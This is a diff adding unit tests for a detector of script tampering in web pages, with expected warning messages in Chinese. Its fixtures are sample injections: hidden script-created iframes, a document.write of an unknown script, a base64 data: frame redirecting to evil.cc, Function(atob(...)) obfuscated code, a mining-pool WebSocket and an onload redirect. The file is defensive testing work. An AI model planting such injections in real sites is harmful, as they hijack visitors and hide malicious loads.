@@ -45,3 +45,26 @@ describe('tamper.injected-script, beyond the cases', () => {
     expect(Date.now() - t0).toBeLessThan(3000);
   });
 });
+
+describe('tamper.injected-script: resources that are not in the markup', () => {
+  it('vets what a script creates or writes as if it were markup, and says so', () => {
+    const created = run("<script>var f=document.createElement('iframe');f.src='http://www.ttyy-game.com/';f.style.display='none';document.body.appendChild(f);</script>");
+    expect(created.map((s) => s.message)).toEqual([expect.stringMatching(/由内联脚本创建的 <iframe> 加载 http:\/\/www\.ttyy-game\.com：不可见（脚本创建的框架 display:none）/)]);
+    const written = run(`<script>document.write('<script src="http://js.tongji-hm.net/c.js"></scr'+'ipt>');</script>`, ['https://hm.baidu.com']);
+    expect(written.map((s) => s.message)).toEqual([expect.stringMatching(/由脚本写入的 <script> 加载 http:\/\/js\.tongji-hm\.net：本站以前从未加载该来源/)]);
+    // Baidu's own loader is created by script too, and stays quiet.
+    expect(run('<script>var hm=document.createElement("script");hm.src="https://hm.baidu.com/hm.js?abc";document.head.appendChild(hm);</script>', ['https://hm.baidu.com'])).toEqual([]);
+  });
+  it('reads a hidden data: frame, Function(atob(…)), a mining-pool socket and code run by <body onload>', () => {
+    const b64 = Buffer.from('<script>location.href="http://evil.cc/"</script>').toString('base64');
+    expect(run(`<iframe src="data:text/html;base64,${b64}" width="0" height="0"></iframe>`)[0]!.message).toMatch(/以 data: 内联一个不可见的页面/);
+    expect(run(`<iframe src="data:text/html;base64,${b64}" width="600" height="400"></iframe>`)).toEqual([]);
+    const fn = run(`<script>Function(atob("${Buffer.from("document.write('<iframe src=http://x.y.net width=0 height=0></iframe>')").toString('base64')}"))()</script>`);
+    expect(fn.map((s) => s.message).join('\n')).toMatch(/Function 执行解码后的代码/);
+    expect(run("<script>var w=new WebSocket('wss://pool.minexmr-proxy.com:443/');</script>")[0]!.severity).toBe('critical');
+    expect(run("<script>var w=new WebSocket('wss://im.example.gov.cn/chat');</script>")).toEqual([]);
+    expect(run(`<body onload="location.href='http://www.evil-jump.com/'"><p>x</p></body>`)[0]!.message).toMatch(/<body> 的事件代码把访问者跳转到 www\.evil-jump\.com/);
+    // A tab switcher's timer is no executor of decoded code.
+    expect(run('<script>setTimeout(function(){document.getElementById("t1").className="on";},3000)</script>')).toEqual([]);
+  });
+});
